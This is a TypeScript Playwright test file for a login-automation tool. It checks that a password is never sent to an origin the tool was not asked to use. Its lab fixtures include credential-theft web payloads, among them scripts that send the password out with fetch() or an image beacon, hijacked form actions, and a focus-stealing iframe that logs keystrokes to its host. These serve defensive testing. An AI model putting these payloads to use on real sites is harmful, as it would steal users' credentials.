import type { Page } from 'playwright';
import { describe, expect } from 'vitest';
import { typeIn } from '../../helpers/login/in-page/type-in.ts';
import { carries } from '../../helpers/login/login-origins.ts';
import type { ScriptStep, WalkRequest } from '../../helpers/login/walk-types.ts';
import { type Handler, sendPage, serve, to } from '../lab/host.ts';
import { target, user } from '../lab/layout-host.ts';
import { loginPage } from '../lab/pages.ts';
import { test } from '../lab/walk.ts';

type Pages = Record<string, string | Handler>;
/** Pages of the service, of which some lead to another host. */
type Service = (other: string) => Pages;

const at = (address: string) => loginPage.replace('action="/login"', `action="${address}"`);
const submitted = (script: string) => `${loginPage}<script>
  document.forms[0].onsubmit = (event) => { const password = document.getElementById('p').value; ${script} };</script>`;

/** Each would give the password to the other host. */
const ways: readonly (readonly [string, Service])[] = [
  ['a redirect to a page', (other) => ({ '/authorize': to(`${other}/form`) })],
  ['a frame', (other) => ({ '/authorize': `<iframe src="${other}/form"></iframe>` })],
  [
    'a page around a frame of its own',
    (other) => ({ '/authorize': to(`${other}/around`), '/form': loginPage }),
  ],
  ['the address of a form', (other) => ({ '/authorize': at(`${other}/login`) })],
  [
    'the address of a form that its base makes',
    (other) => ({ '/authorize': `<base href="${other}/">${at('login')}` }),
  ],
  [
    'the address of a button',
    (other) => ({
      '/authorize': loginPage.replace('<button', `<button formaction="${other}/login"`),
    }),
  ],
  [
    'the address of a form with a field that is called like a method',
    (other) => ({
      '/authorize': at(`${other}/login`).replace(
        '<p>',
        '<p><input type="hidden" name="getAttribute">',
      ),
    }),
  ],
  [
    'a form in a frame',
    (other) => ({ '/authorize': '<iframe src="/form"></iframe>', '/form': at(`${other}/login`) }),
  ],
  [
    'an address that a script sets at last',
    (other) => ({ '/authorize': submitted(`event.target.action = '${other}/login'`) }),
  ],
  [
    'a script that sends JSON',
    (other) => ({
      '/authorize': submitted(
        `event.preventDefault(); fetch('${other}/login', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ password }) })`,
      ),
    }),
  ],
  [
    'a script that loads a picture',
    (other) => ({
      '/authorize': submitted(
        `event.preventDefault(); new Image().src = '${other}/login?p=' + encodeURIComponent(password)`,
      ),
    }),
  ],
  [
    'a redirect that sends the form again',
    (other) => ({ '/authorize': loginPage, '/login': to(`${other}/login`, 307) }),
  ],
  [
    'a redirect with the password in its address',
    (other) => ({
      '/authorize': loginPage,
      '/login': (request, response, body) => to(`${other}/login?${body}`)(request, response, body),
    }),
  ],
];

/** Takes the focus from the page around it all the time, and tells its host what is typed there. */
const thief = `<input id="trap"><script>
  const take = () => { window.focus(); trap.focus(); };
  for (const name of ['message', 'focus', 'blur', 'keydown', 'input']) addEventListener(name, take, true);
  setInterval(take, 1);
  trap.oninput = () => fetch('/heard?' + encodeURIComponent(trap.value));
</script>`;
const callThief = `<script>
  for (const name of ['focus', 'blur', 'keydown', 'beforeinput', 'input', 'keyup', 'change'])
    addEventListener(name, () => frames[0].postMessage(name, '*'), true);
</script>`;
const ownLogin: ScriptStep[] = [
  { fill: '#u', with: 'username' },
  { fill: 'text=Password', with: 'password' },
  { click: 'button' },
];

/** The other host, which keeps all that it was sent. */
async function openOther(own: () => string) {
  const heard: string[] = [];
  const hear: Handler = (request, response, body) => {
    heard.push(`${request.url} ${body}`);
    if (request.url?.startsWith('/around'))
      return sendPage(response, `<iframe src="${own()}/form"></iframe>`);
    if (request.url === '/form') return sendPage(response, loginPage);
    if (request.url === '/thief') return sendPage(response, thief);
    return to(`${target}?code=1`)(request, response, body);
  };
  const host = await serve(hear);
  // Another name for this machine, and so another site.
  const base = host.base.replace('127.0.0.1', 'localhost');
  return { base, heard, [Symbol.asyncDispose]: () => host[Symbol.asyncDispose]() };
}

describe.concurrent('the password goes to the origin that was asked, and to those named', () => {
  test.for(ways)('%s: not to another one', async ([, service], { walk }) => {
    let own = '';
    await using other = await openOther(() => own);
    await using server = await serve(service(other.base));
    own = server.base;

    const seen = await walk(`${own}/authorize`);

    expect(decodeURIComponent(other.heard.join(' '))).not.toContain(user.password);
    expect(seen).toMatchObject({ ended: 'stopped-at-page', elsewhere: { origin: other.base } });
    expect(seen.explanation).toContain(other.base);
    expect(seen.explanation).not.toContain(user.password);
  });

  test.for(ways.slice(0, 7))('%s: where it is named', async ([, service], { walk }) => {
    let own = '';
    await using other = await openOther(() => own);
    await using server = await serve({ '/login': to(`${target}?code=1`), ...service(other.base) });
    own = server.base;

    const seen = await walk(`${own}/authorize`, { loginOrigins: [other.base] });

    expect(seen.ended, seen.explanation).toBe('redirected');
  });

  test.for(['pw12345', 'pw123456'])(
    'a password is known in HTTP Basic, be it short: %s',
    (password) => {
      const basic = Buffer.from(`me:${password}`).toString('base64');
      const request = { user: { username: 'me', password } } as WalkRequest;

      expect(carries(`https://other.example/ Basic ${basic}`, request)).toBe(true);
      expect(carries('https://other.example/ Basic bWU6b3RoZXI=', request)).toBe(false);
    },
  );

  test.for<[string, string, Partial<WalkRequest>]>([
    ['by the driver', loginPage, {}],
    [
      'in a frame',
      `<iframe srcdoc='${loginPage.replace('<form', '<form target="_top"')}'></iframe>`,
      {},
    ],
    ['by a login script', loginPage, { script: { login: ownLogin } }],
  ])('nor to a frame that takes the focus: typed %s', async ([, page, more], { walk }) => {
    await using other = await openOther(() => '');
    await using server = await serve({
      '/authorize': `<iframe src="${other.base}/thief"></iframe>${callThief}${page}`,
      '/login': (request, response, body) => to(`${target}?${body}`)(request, response, body),
    });

    const seen = await walk(`${server.base}/authorize`, more);

    expect(other.heard).toEqual(['/thief ']);
    const typed = new URLSearchParams(user);
    expect(seen.visits.at(-1)?.url, seen.explanation).toBe(`${target}?${typed}`);
  });

  test('nor in a document of another origin than was judged', async ({ walk }) => {
    await using server = await serve({ '/authorize': loginPage });
    let isTyped: boolean | undefined;
    const person = async (page: Page) => {
      const typing = { text: user.password, origins: ['https://other.example'] };
      isTyped = await page.locator('#p').evaluate(typeIn, typing);
      await page.close();
    };

    await walk(`${server.base}/authorize`, { person });

    expect(isTyped).toBe(false);
  });

  test('nor by a login script', async ({ walk }) => {
    await using other = await openOther(() => '');
    await using server = await serve({ '/authorize': to(`${other.base}/form`) });
    const login = [{ fill: '#p', with: 'password' as const }, { click: 'button' }];

    const seen = await walk(`${server.base}/authorize`, { script: { login } });

    expect(other.heard).toEqual(['/form ']);
    expect(seen).toMatchObject({ ended: 'stopped-at-page', elsewhere: { origin: other.base } });
  });
});
